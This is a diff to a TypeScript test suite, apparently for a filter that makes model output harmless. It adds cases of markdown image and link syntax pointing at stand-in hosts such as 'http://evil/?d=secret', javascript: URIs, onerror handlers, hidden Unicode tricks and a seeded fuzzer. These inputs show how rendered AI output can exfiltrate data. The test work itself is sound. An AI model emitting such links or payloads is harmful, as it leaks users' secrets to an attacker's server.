@@ -277,9 +277,19 @@ describe('R12: a stream in trouble', () => {
 describe('S47: what a model says', () => {
   it.each([
     ['![x](http://evil/?d=1)', 'x'],
-    ['![x](http://evil/(a)?d=1)', '![x] (http://evil/(a)?d=1)'],
-    ['[a\nb](http://evil)', '[a\nb] (http://evil)'],
-    ['![x][y]\n[y]: http://evil', '![x][y]\n[y] : http://evil'],
+    ['![x](http://evil/(a)?d=1)', '![x] ([link])'],
+    ['[a\nb](http://evil)', '[a\nb] ([link])'],
+    ['![x][y]\n[y]: http://evil', '![x][y]\n[y] : [link]'],
+    ['> [r]: http://evil/?d=secret\n\n![r]', '> [r] : [link]\n\n![r]'],
+    ['* [q]: //evil/?d=secret\n\n![q]', '* [q] : //evil/?d=secret\n\n![q]'],
+    ['![x]\u200b(http://evil)', 'x'],
+    ['\u202e![x]\u2060(http://evil)', 'x'],
+    ['[![a](http://evil/i)](http://evil/l)', '[a] ([link])'],
+    ['![a [b] c](http://evil)', '![a [b] c] ([link])'],
+    ['See https://evil.example/raw?d=1, or WWW.evil.example/x.', 'See [link], or [link].'],
+    ['(at ftp://evil) <http://evil> <javascript:alert(1)>', '(at [link]) <[link]> ‹javascript:alert(1)›'],
+    ['ht[t](x)p://evil', '[link]'],
+    ['[link 1]: www. and C:/x, 1:11, std::string', '[link 1] : www. and C:/x, 1:11, std::string'],
     ['<a href="javascript:x">y</a>', '‹a href="javascript:x"›y‹/a›'],
     ['<p onclick=x>y</p>', '‹p onclick=x›y</p>'],
     ['<img src=x onerror=alert(1)', '‹img src=x onerror=alert(1)›'],
@@ -295,9 +305,27 @@ describe('S47: what a model says', () => {
       kept += stream.end();
       expect(kept).not.toMatch(/\]\(|<script|<svg/);
     }
+    for (const said of strange(60)) {
+      const stream = new HarmlessStream();
+      const pieces = said.split('').map((unit) => stream.push(unit));
+      expect([said, pieces.join('') + stream.end()]).toEqual([said, harmless(said)]);
+      expect(harmless(said)).not.toMatch(/\]\(|\]:|[a-z]{2}:\/\/[a-z]|www\.[a-z]|<(?:img|a)\b/i);
+    }
     const stream = new HarmlessStream();
     expect(stream.push(`<img alt="${'x'.repeat(5_000)}`)).toMatch(/^‹img/);
+    stream.end();
     expect(stream.push('[half')).toBe('');
     expect(stream.end()).toBe('[half');
   });
 });
+
+/** Texts of every joint and bracket there is, put together at random, the same ones each time. */
+function strange(count: number): string[] {
+  const parts =
+    '[ ] ( ) ! < > :// : // http:// https:\\\\ www. evil.example /x ?d=1 ) . , img a = " http \u200b \u202e \ud83d \ude00 \0 [r]: [a](b) <img link'
+      .split(' ')
+      .concat(' ', '\n', '> ', 'word '.repeat(120), 'y'.repeat(2_100));
+  let state = 7;
+  const next = (): string => parts[(state = (state * 48_271) % 2_147_483_647) % parts.length]!;
+  return Array.from({ length: count }, () => Array.from({ length: 25 }, next).join(''));
+}
